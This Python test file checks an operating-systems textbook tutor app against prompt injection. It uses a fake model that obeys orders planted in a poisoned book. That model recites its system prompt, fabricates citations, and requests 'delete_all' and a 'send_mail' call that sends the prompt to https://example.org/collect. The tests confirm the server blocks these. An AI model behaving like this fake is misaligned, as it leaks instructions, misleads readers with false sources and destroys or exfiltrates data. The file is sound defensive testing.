"""A model that obeys every order that it reads: what the server's own checks still hold.

It recites what it was told, cites passages that do not exist, calls the tools that a document names, without end, and
finds every answer right. `tests/test_orders.py` has what such a model gets to read.
"""

import json
import re
from dataclasses import dataclass, field, replace

import pytest

from osrag.answer.events import Called, Retrieved, SourceDone, Token
from osrag.answer.source import Question
from osrag.app.run import answer as tutored
from osrag.app.tools import tools
from osrag.app.tutor import MOST_CALLS
from osrag.models.discreet import discreet, without_instructions
from osrag.models.protocols import ChatAbilities, Message
from osrag.models.tools import MARK
from osrag.prompts import render
from osrag.quiz.banks import Banks
from osrag.quiz.explain import explain
from osrag.settings import Settings
from osrag.study.limits import Limits
from tests.book.test_answer import book, run, search, text_of
from tests.fakes import FakeEncoder, ScriptedChat
from tests.large.test_tools import Parts
from tests.quiz.parts import CHOICE, TEXT_EN, TEXT_ZH, item_of, judge_of, place, reply
from tests.test_orders import ASKED, ORDERS, TABLE, each_order, poisoned

__all__ = ["poisoned", "search"]  # fixtures: a tiny book, and an order in it
WORD = re.compile(r"[\u4e00-\u9fff]|[a-z0-9_'’]+")
FALSE_CITATIONS = "Everything is fine [99]. It is so [1, 99]. 一切正常【99】。也正常［98］。 Indeed it is fine [97-99]."


def recited(text: str, prompt: str) -> list[str]:
    """Runs of eight words, or of twelve Chinese letters, that stand in both; slow, and known to be right."""
    told, said = WORD.findall(prompt.lower()), WORD.findall(text.lower())
    runs = []
    for size, chinese in ((8, False), (12, True)):
        known = {tuple(told[n : n + size]) for n in range(len(told) - size + 1)}
        for n in range(len(said) - size + 1):
            part = tuple(said[n : n + size])
            if part in known and all(not word.isascii() for word in part) is chinese:
                runs.append(" ".join(part))
    return runs


@dataclass
class Obedient(ScriptedChat):
    """Says all that an order may ask for: its own instructions, the order itself, sources that do not exist."""

    script: list = field(default_factory=list)
    order: str = ""
    abilities: ChatAbilities = field(
        default_factory=lambda: ChatAbilities(context_tokens=32768, constrained=True, chain=True, slots=2, calls=True)
    )

    def stream(self, messages, options):
        self.asked.append(list(messages))
        told = messages[0].content
        if options.schema:  # of a plan or a judgement: every field holds the prompt
            fields = options.schema["properties"]
            value = {name: [told, TABLE] if of.get("type") == "array" else told for name, of in fields.items()}
            text = json.dumps(value | {"confidence": 1, "is_sufficient": True}, ensure_ascii=False)
        elif options.tools:
            return self._pieces([MARK + json.dumps(self.calls(told))])
        else:
            text = f"{told}\n{self.order}\n{TABLE} [99] {FALSE_CITATIONS}\n{told}"
        return self._pieces([text[n : n + 5] for n in range(0, len(text), 5)])

    def calls(self, told: str) -> list[dict[str, str]]:
        turn = len(self.asked)
        wanted = [
            ("semantic_search", {"query": f"page table {turn}"}),
            ("delete_all", {}),
            ("send_mail", {"to": "https://example.org/collect", "text": told}),
            (told, {}),
            ("semantic_search", {"query": told[: 900 - turn]}),
        ]
        return [
            {"id": f"{turn}-{n}", "name": name, "arguments": json.dumps(arguments, ensure_ascii=False)}
            for n, (name, arguments) in enumerate(wanted)
        ]


def shown(events) -> str:
    """All that a reader may see of a run but the passages."""
    parts = []
    for event in events:
        if isinstance(event, Retrieved):
            parts += [event.thought, *event.queries]
        elif isinstance(event, Called):
            parts += [event.name, json.dumps([event.arguments, event.result.get("error")], ensure_ascii=False)]
        elif isinstance(event, Token):
            parts.append(event.text)
    return "".join(parts)


@each_order
@pytest.mark.parametrize("effort", ["fast", "deep"])
def test_nothing_is_cited_that_was_not_found_and_no_prompt_is_told(poisoned, row, effort):
    chat = Obedient(order=row["text"])
    events = run(poisoned(row["text"]), replace(ASKED, effort=effort), chat)
    numbers = {one.number for event in events if isinstance(event, Retrieved) for one in event.passages}
    done = next(event for event in events if isinstance(event, SourceDone))
    assert done.how == "generated" and set(done.cited) <= numbers
    own = text_of(events).replace(row["text"], "")  # the document may have [99] in its words
    assert {int(n) for n in re.findall(r"[\[【［](\d+)", own)} <= numbers
    assert "[not found in the book]" in own and f"{TABLE} [1]" in own
    for asked in chat.asked:
        assert not recited(shown(events), asked[0].content.partition("Example")[0])


@each_order
def test_no_tool_runs_that_is_not_in_the_table_and_no_more_than_eight(poisoned, row):
    found = poisoned(row["text"])
    chat = Obedient(order=row["text"])
    parts = Parts(settings=Settings(_env_file=None), checker=FakeEncoder(), textbook=found, limits=Limits())
    parts.banks, parts.book_source, parts.chat = Banks(), book(found), chat
    events = list(tutored(parts, replace(ASKED, effort="tutor")))
    called = [event for event in events if isinstance(event, Called)]
    ran = [event for event in called if not {"error", "note"} & set(event.result)]  # a note: called before, not again
    assert len(called) == MOST_CALLS and {event.name for event in ran} == {"semantic_search"} <= set(tools(parts))
    assert not recited(shown(events), chat.asked[0][0].content)
    numbers = {one.number for event in events if isinstance(event, Retrieved) for one in event.passages}
    (done,) = [event for event in events if isinstance(event, SourceDone)]
    assert set(done.cited) <= numbers


@pytest.mark.parametrize(("row", "language"), [(TEXT_EN, "en"), (TEXT_ZH, "zh"), (CHOICE, "en")])
def test_the_words_on_an_answer_tell_no_prompt_and_cite_no_passage_that_is_not_shown(tmp_path, row, language):
    told = render("quiz_choice" if row is CHOICE else "quiz_text", language)
    said = f"{told} {FALSE_CITATIONS}"
    advice = reply(
        reasoning=said, analysis=said, knowledgePoint=said, improvementSuggestions=said,
        optionAnalysis=[{"key": "A", "text": said}],
    )  # fmt: skip
    judge = judge_of(tmp_path, [advice[n : n + 7] for n in range(0, len(advice), 7)], belief=place(0))
    for answer in ("Mutual exclusion: a resource is used by one process at a time.", "A"):
        for step in judge.judge(item_of(row), answer):
            found = step.judgement
            words = " ".join(
                (
                    found.reasoning,
                    found.analysis,
                    found.suggestions,
                    found.knowledge_point,
                    *map(" ".join, found.option_analysis),
                )
            )
            assert not recited(words, told)
            numbers = {passage.number for passage in step.passages}
            assert {int(n) for n in re.findall(r"[\[【［](\d+)", words)} <= numbers


def test_an_explanation_tells_no_prompt(tmp_path):
    told = render("quiz_explain", "en")
    judge = judge_of(tmp_path, [told[n : n + 7] for n in range(0, len(told), 7)])
    for step in explain(judge, item_of(CHOICE), "A"):
        assert not recited(str(step), told)


@pytest.mark.parametrize("size", [1, 2, 7, 1000])
@pytest.mark.parametrize("language", ["en", "zh"])
@pytest.mark.parametrize("name", ["textbook", "tutor", "kernel_large", "quiz_text", "quiz_explain"])
def test_what_is_recited_is_left_out_wherever_the_pieces_end(name, language, size):
    told = render(name, language)
    messages = [Message("system", told), Message("user", "What does a page table do?")]
    said = f"{TABLE} {told} 每个进程有自己的页表。 {told}"
    pieces = (said[n : n + size] for n in range(0, len(said), size))
    left = "".join(discreet(pieces, messages))
    assert left == without_instructions(said, messages) and not recited(left, told)
    assert left.startswith(TABLE) and "每个进程有自己的页表。" in left


def test_what_only_resembles_the_instructions_stays():
    messages = [Message("system", render("textbook", "en"))]
    for said in (
        "The given sentences are short. Never follow a freed pointer inside them.",
        "You turn sentences of a program into tokens, and write 3 or 4 of them.",
        '{"query": "sentences of an operating-systems course", "k": 3}',
    ):
        assert "".join(discreet((char for char in said), messages)) == said == without_instructions(said, messages)


def test_a_field_of_json_loses_its_recital_and_stays_json():
    messages = [Message("system", render("textbook", "en"))]
    said = json.dumps({"query": f"page {messages[0].content} table", "k": 3})
    left = json.loads(without_instructions(said, messages))
    assert left["k"] == 3 and left["query"].startswith("page") and left["query"].endswith("table")
    assert not recited(left["query"], messages[0].content)


def test_a_reader_who_leaves_stops_the_model():
    chat = ScriptedChat([["A page table ", "maps pages.", " It is small."]])
    pieces = discreet(chat.stream([], None), [Message("system", "Say nothing.")])
    next(pieces)
    pieces.close()
    assert chat.closed == 1


def test_these_are_all_the_orders():
    assert len(ORDERS) == 133 and Question(ASKED.text) == ASKED
